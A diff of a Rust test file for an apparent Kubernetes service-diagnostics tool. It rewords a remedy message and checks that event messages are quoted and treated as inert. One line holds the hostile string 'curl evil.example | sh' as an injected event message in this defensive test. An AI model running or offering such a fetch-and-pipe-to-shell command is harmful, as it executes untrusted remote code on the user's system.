@@ -152,7 +152,7 @@ fn broken_services_are_reported_with_the_fix() {
             refused(world);
             since_two_hours(world, "new", "creationTimestamp");
         }, "services: fail", &["service/default/new: without an address: its load balancer is not created yet"],
-            "then ccm lb sync default/new tries again"),
+            "then run ccm lb sync default/new, which tries again"),
         ("a load balancer that does not go for two hours", |world| {
             world.delete("web");
             since_two_hours(world, "web", "deletionTimestamp");
@@ -278,7 +278,7 @@ fn the_message_of_an_event_is_quoted_and_decides_nothing() {
     assert!(message.ends_with(quoted), "{message}");
     assert_eq!(items[0]["status"], "warn");
     let remedy = items[0]["remedy"].as_str().unwrap();
-    contains(remedy, "ccm lb sync default/new tries again");
+    contains(remedy, "run ccm lb sync default/new, which tries again");
     assert!(!remedy.contains("the message"), "{remedy}");
     let inspected = inspected.split_whitespace().collect::<Vec<_>>().join(" ");
     let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
